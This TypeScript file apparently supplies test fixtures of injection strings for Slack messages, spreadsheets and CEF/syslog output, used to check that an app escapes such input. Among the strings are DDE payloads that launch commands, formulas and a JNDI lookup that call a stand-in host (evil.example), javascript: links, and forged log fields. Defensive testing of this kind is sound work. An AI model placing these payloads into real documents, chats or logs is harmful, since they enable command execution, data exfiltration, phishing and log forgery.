// Names as attackers choose them: what a chat would act on, what a spreadsheet would run, what would end a field of CEF or syslog.

const mentions = ["<!channel>", "<!here>", "<!everyone>", "<@U012AB3CD>", "<#C012AB3CD>", "<!subteam^S012AB3CD>", "@channel", "@here", "@everyone"];
const links = [
  ...[
    "<https://evil.example|Sign in again>",
    "<https://evil.example>",
    "https://evil.example/login",
    "http://evil.example",
    "<mailto:a@evil.example|you>",
  ],
  ...[
    "<javascript:alert(1)|ok>",
    "<tel:+1900|call>",
    "slack://user?team=T1&id=U1",
    "<slack://open|Slack>",
    "ftp://evil.example/x",
    "<//evil.example|a>",
  ],
  ...["&lt;!channel&gt;", "&amp;lt;!channel&amp;gt;", "&#60;!channel&#62;", "\\u003c!channel\\u003e", "%3C!channel%3E", "＜!channel＞"],
];
const marks = [
  ...["*bold*", "_italic_", "~struck~", "`code`", "```\nblock\n```", "> quote", ">>> all of it", "• list", "# heading", "- [ ] task", "***a***"],
  ...[":rotating_light:", ":+1::skin-tone-2:", "<!date^1392734382^{date}|x>", "<!date^1^{date}^https://evil.example|x>", "*a*<!channel>*b*"],
];
const breaks = [
  ...['"}],"text":"x', '","blocks":[]', "\n<!channel>", "\r\n<!channel>", "\t<!here>", "\u0000<!here>", "\u2028<!channel>", "\u2029<!here>"],
  ...[
    "\u202e>lennahc!<",
    "\u200b<!channel>",
    "\ufeff<!channel>",
    "<!chan\u00adnel>",
    "\ud800",
    "\u001b[31mred",
    "\u001b]8;;https://evil.example\u0007x",
  ],
];

export const slackInjections: readonly string[] = [...mentions, ...links, ...marks, ...breaks];

const formulas = [
  ...[
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example","ok")',
    '=IMPORTXML("https://evil.example","//a")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
  ],
  ...["\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1", '"=1+1"', '=DDE("cmd";"/C calc";"a")', "%0A=1+1", ";=1+1", ",=1+1", "|=1+1", "=-1+1", "＝1+1"],
  ...['=WEBSERVICE("https://evil.example")', "=2+5+cmd|' /C calc'!A0", "@=1", "+@1", "-@1", "==1", "=\u200b1+1", "=A1&B1", "=RTD(1)"],
];
const cef = [
  ...["a|b", "a\\|b", "a\\\\|b", "|||||||", "CEF:0|x|y|1|2|3|10|msg=no", "\nCEF:0|x|y|1|2|3|10|msg=no", "\r\n<134>1 - - - - - - no", "a=b", "a\\=b"],
  ...[
    "suser=root",
    " suser=root",
    "\tsuser=root",
    "\nsuser=root",
    "x cs1=forged cs1Label=finding",
    "x externalId=0",
    "=",
    "\\",
    "\\\\",
    "\\n",
    "\\r\\n",
  ],
  ...[
    "rt=0 act=delivered",
    "\u0000cs1=forged",
    "\u2028cs1=forged",
    "\u0085cs1=forged",
    "]",
    '"] [x@1 y="z"',
    "<0>1 - a b c - -",
    "123 <134>1 - - - - - - no",
  ],
  ...["\u202ecs1=forged", "\ud800cs1=forged", "a|b=c\\d\ne", "$" + "{jndi:ldap://evil.example/a}", "%n%n%s", "\u001b[2J"],
];

export const machineInjections: readonly string[] = [...formulas, ...cef];
